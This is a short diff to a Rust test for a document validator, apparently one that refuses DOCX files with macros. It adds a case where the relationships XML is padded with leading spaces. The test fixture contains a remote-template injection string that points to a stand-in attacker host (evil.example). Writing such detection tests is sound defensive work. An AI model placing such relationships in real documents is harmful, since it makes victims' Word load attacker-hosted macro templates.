@@ -255,6 +255,8 @@ fn g46_macros_scripts_and_embedded_programs_are_refused() {
     let template = b"<Relationships><Relationship Id=\"a\" Type=\"http://x/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
     let leads = |relations: &[u8], verdict| {
         is("template.docx", &docx(&[("word/_rels/settings.xml.rels", relations)]), Err(verdict));
+        let padded = [&b" ".repeat(100), relations].concat();
+        is("padded.docx", &docx(&[("word/_rels/settings.xml.rels", &padded)]), Err(verdict));
     };
     leads(template, Refusal::Macros);
     // However XML may be written.
